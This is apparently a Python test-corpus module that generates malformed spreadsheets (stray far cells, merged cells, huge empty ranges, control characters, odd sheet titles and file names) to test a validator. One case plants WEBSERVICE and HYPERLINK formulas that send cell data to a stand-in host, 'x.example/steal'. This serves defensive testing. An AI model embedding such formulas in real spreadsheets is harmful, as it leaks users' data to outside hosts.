"""Bad-input cases about size and shape: stray far cells, formatting-only rows, merged cells,
formulas, control characters, odd sheet titles and file names. Registered at the end of
tests/corpus.py, so that tests/test_hostile.py runs each through `heza validate --json`.

What openpyxl will not write (a value at XFD1048576 without a million rows, a sheet title with
characters Excel forbids) is planted by editing the sheet's XML.
"""

from __future__ import annotations

import re
from pathlib import Path

from openpyxl.styles import PatternFill

try:
    from tests.corpus import Case, good, rewrite_member, xls, xlsx
except ImportError:  # `python -m tests.corpus DIR`: the corpus module is __main__, importing this one
    from __main__ import Case, good, rewrite_member, xls, xlsx  # type: ignore[no-redef]

SHEET = "xl/worksheets/sheet1.xml"


def move_cell(path: Path, source: str, target: str) -> Path:
    """Move one written cell (and its row) to another address in the sheet XML."""
    row_from, row_to = re.sub(r"[A-Z]", "", source), re.sub(r"[A-Z]", "", target)

    def change(data: bytes) -> bytes:
        data = data.replace(f'<c r="{source}"'.encode(), f'<c r="{target}"'.encode())
        if row_from != row_to:
            data = data.replace(f'<row r="{row_from}"'.encode(), f'<row r="{row_to}"'.encode())
        return data

    rewrite_member(path, SHEET, change)
    return path


def stray_at(address: str, name: str, value: str = "ghi chú lạc", rows: int = 2):
    """A good table with one value moved far away (written at A200 first, a shared string)."""
    def make(folder: Path) -> list:
        def plant(workbook, ws):
            ws["A200"] = value
        path = xlsx(folder, name, good(rows), extra=plant)[0]
        move_cell(path, "A200", address)
        return [path]
    return make


def _formatted_empty_rows(folder: Path) -> list:
    """Two good rows, then every row down to 1.048.576 carrying a fill and no value."""
    def styled(workbook, ws):
        ws["A4"].fill = PatternFill("solid", fgColor="FFFF00")
    path = xlsx(folder, "dinh_dang_trong.xlsx", good(2), extra=styled)[0]

    def change(data: bytes) -> bytes:
        style = re.search(rb'<c r="A4" s="(\d+)"', data).group(1)
        rows = b"".join(b'<row r="%d" s="%s" customFormat="1"/>' % (r, style) for r in range(5, 1_048_577))
        return data.replace(b"</sheetData>", rows + b"</sheetData>")

    rewrite_member(path, SHEET, change)
    return [path]


def _far_data_row(folder: Path) -> list:
    """A real data row 5.000 empty rows below the table: read as data, not stray."""
    rows = good(3)
    def later(workbook, ws):
        ws.delete_rows(4)
        for column, value in enumerate(rows[3], start=1):
            ws.cell(row=5_004, column=column, value=value)
    return xlsx(folder, "dong_xa.xlsx", rows, extra=later)


def _merged_zone_column(folder: Path) -> list:
    """The zone written once in a cell merged down over three rows; the zone is unknown, so the
    finding lands on the merged cell."""
    rows = good(3, zone="KCN Sao Hỏa")
    def merge(workbook, ws):
        ws.merge_cells("C2:C4")
    return xlsx(folder, "gop_o.xlsx", rows, extra=merge)


def _merged_known_zone(folder: Path) -> list:
    """A known zone written once beside its three enterprises, in a cell merged down over them."""
    def merge(workbook, ws):
        ws.merge_cells("C2:C4")
    return xlsx(folder, "gop_khu.xlsx", good(3), extra=merge)


def _merged_known_zone_xls(folder: Path) -> list:
    """The same in a legacy .xls: the zone written once, in a range merged over C2:C4."""
    def merged_zone(sheet, r, c, value):
        if c == 2 and r == 1:
            sheet.write_merge(1, 3, 2, 2, value)
        return c == 2 and r >= 1
    return xls(folder, "gop_khu.xls", good(3), merged_zone)


def _merged_figure(folder: Path) -> list:
    """One workers total written for two enterprises, in a cell merged over their two rows."""
    def merge(workbook, ws):
        ws.merge_cells("H2:H3")
    return xlsx(folder, "gop_so.xlsx", good(3), extra=merge)


def _merged_header_cells(folder: Path) -> list:
    """Each header written in a cell merged down over two rows, as templates often are."""
    rows = good(2)
    rows.insert(1, [None] * len(rows[0]))
    def merge(workbook, ws):
        for column in range(1, len(rows[0]) + 1):
            ws.merge_cells(start_row=1, start_column=column, end_row=2, end_column=column)
    return xlsx(folder, "gop_tieu_de.xlsx", rows, extra=merge)


def _merged_subheading(folder: Path) -> list:
    """A subheading merged across the table between data rows."""
    rows = good(2)
    rows.insert(2, ["I. Doanh nghiệp FDI"])
    def merge(workbook, ws):
        ws.merge_cells("A3:N3")
    return xlsx(folder, "gop_dong.xlsx", rows, extra=merge)


def _live_formulas(folder: Path) -> list:
    """WEBSERVICE and HYPERLINK formulas with their computed values, as Excel saves them."""
    rows = good(2)
    path = xlsx(folder, "cong_thuc_web.xlsx", rows)[0]

    def change(data: bytes) -> bytes:
        data = re.sub(rb'<c r="B2" t="inlineStr"><is><t>([^<]*)</t></is></c>|<c r="B2" t="s"><v>\d+</v></c>',
                      b'<c r="B2" t="str"><f>HYPERLINK("http://x.example/?q="&amp;A2,"C\xc3\xb4ng ty A")</f>'
                      b'<v>C\xc3\xb4ng ty A</v></c>', data)
        return data.replace(b'<c r="N2" t="n"><v>400</v></c>',
                            b'<c r="N2"><f>WEBSERVICE("http://x.example/steal")</f><v>400</v></c>')

    rewrite_member(path, SHEET, change)
    return [path]


def _control_characters(folder: Path) -> list:
    """Control characters inside a name (as pasted from another program) in a CSV export."""
    from tests.corpus import csv_file

    return csv_file(folder, "ky_tu_dieu_khien.csv", good(2, name="Công ty \x01\x1bA\x07"))


def _odd_sheet_title(folder: Path) -> list:
    """A sheet title Excel would refuse: longer than 31 characters, with []:*?/\\ in it."""
    path = xlsx(folder, "ten_trang.xlsx", good(2, tax_code="0100109107"), sheet="DN")[0]
    title = "Danh sách [DN]: Q1/Q2 * ? \\ tháng 02 năm 2024 (bản cuối)"
    rewrite_member(path, "xl/workbook.xml",
                   lambda d: d.replace(b'name="DN"', b'name="' + title.encode() + b'"'))
    return [path]


def _odd_file_name(name: str):
    def make(folder: Path) -> list:
        return xlsx(folder, name, good(2, tax_code="0100109107"))
    return make


def _ods_far(name: str, columns_before: int):
    """A LibreOffice sheet with one value a million repeated empty rows below the table (and
    `columns_before` repeated empty cells left of it): cheap in the file, huge if allocated."""
    def make(folder: Path) -> list:
        import pandas as pd

        rows = good(2)
        path = folder / name
        pd.DataFrame(rows[1:], columns=rows[0]).to_excel(path, engine="odf", index=False, sheet_name="DN")
        gap = b'<table:table-cell table:number-columns-repeated="%d"/>' % columns_before if columns_before else b""
        far = (b'<table:table-row table:number-rows-repeated="1048000"><table:table-cell/></table:table-row>'
               b"<table:table-row>" + gap + b'<table:table-cell office:value-type="string"><text:p>ghi ch\xc3\xba'
               b"</text:p></table:table-cell></table:table-row></table:table>")
        rewrite_member(path, "content.xml", lambda d: d.replace(b"</table:table>", far, 1))
        return [path]
    return make


CASES = [
    Case("stray_cell_at_the_last_cell_of_the_sheet", stray_at("XFD1048576", "o_lac_cuoi.xlsx"), 0,
         {"SHEET_STRAY_CELL"}, ("DN", 1_048_576, None), published=2, quarantined=0, rows_seen=4),
    Case("stray_cell_at_kn1048576", stray_at("KN1048576", "o_lac_kn.xlsx"), 0,
         {"SHEET_STRAY_CELL"}, ("DN", 1_048_576, None), published=2, quarantined=0, rows_seen=4),
    Case("stray_cell_far_right_of_a_data_row", stray_at("XFD2", "o_lac_phai.xlsx"), 0,
         {"SHEET_STRAY_CELL"}, ("DN", 2, None), published=2, quarantined=0, rows_seen=3),
    Case("ods_value_a_million_rows_below", _ods_far("xa.ods", 0), 0, {"SHEET_STRAY_CELL"},
         ("DN", 1_048_004, None), published=2, quarantined=0, rows_seen=4),
    # refused, so no row of it is read or counted (as for every unreadable file)
    Case("ods_value_a_million_rows_below_and_16000_columns_right", _ods_far("xa_phai.ods", 16_000), 2,
         {"FILE_UNREADABLE"}, reason="too_wide", rows_seen=0),
    Case("data_row_after_5000_blank_rows_is_data", _far_data_row, 0, set(), published=3, quarantined=0,
         rows_seen=4),
    Case("a_million_formatted_empty_rows", _formatted_empty_rows, 0, set(), published=2, quarantined=0,
         rows_seen=3),
    Case("finding_on_a_merged_zone_cell", _merged_zone_column, 1, {"ENT_ZONE_UNKNOWN"},
         ("DN", 2, "zone_code"), rows_seen=4),
    Case("zone_merged_down_over_its_enterprises", _merged_known_zone, 0, {"CELL_MERGED_FILLED"},
         ("DN", 2, "zone_code"), published=3, quarantined=0, rows_seen=4),
    Case("zone_merged_down_in_an_xls", _merged_known_zone_xls, 0, {"CELL_MERGED_FILLED"},
         ("DN", 2, "zone_code"), published=3, quarantined=0, rows_seen=4),
    Case("figure_merged_over_two_enterprises", _merged_figure, 1, {"CELL_MERGED_ACROSS_ROWS"},
         ("DN", 2, "workers_total"), published=1, quarantined=2, rows_seen=4),
    Case("header_cells_merged_down_over_two_rows", _merged_header_cells, 0, set(), published=2, quarantined=0,
         rows_seen=3),
    Case("merged_subheading_row", _merged_subheading, 0, set(), published=2, quarantined=0, rows_seen=4),
    Case("webservice_and_hyperlink_formulas", _live_formulas, 0, set(), published=2, quarantined=0,
         rows_seen=3),
    Case("control_characters_in_a_cell", _control_characters, 0, set(), published=2, rows_seen=3),
    Case("sheet_title_too_long_with_forbidden_characters", _odd_sheet_title, 1, {"ENT_TAX_CODE_FORMAT"},
         ("Danh sách [DN]: Q1/Q2 * ? \\ tháng 02 năm 2024 (bản cuối)", 2, "tax_code"), rows_seen=3),
    Case("file_name_with_brackets_as_browsers_save", _odd_file_name("bao cao [1].xlsx"), 1,
         {"ENT_TAX_CODE_FORMAT"}, ("DN", 2, "tax_code"), rows_seen=3),
    Case("file_name_with_a_colon", _odd_file_name("a:b.xlsx"), 1, {"ENT_TAX_CODE_FORMAT"},
         ("DN", 2, "tax_code"), rows_seen=3),
    Case("file_name_with_a_line_break", _odd_file_name("bao cao\nthang 2.xlsx"), 1, {"ENT_TAX_CODE_FORMAT"},
         ("DN", 2, "tax_code"), rows_seen=3),
    Case("file_name_with_dollar_math", _odd_file_name("Khu $\\frac{1}{$ bản $x^2$.xlsx"), 1,
         {"ENT_TAX_CODE_FORMAT"}, ("DN", 2, "tax_code"), rows_seen=3),
]
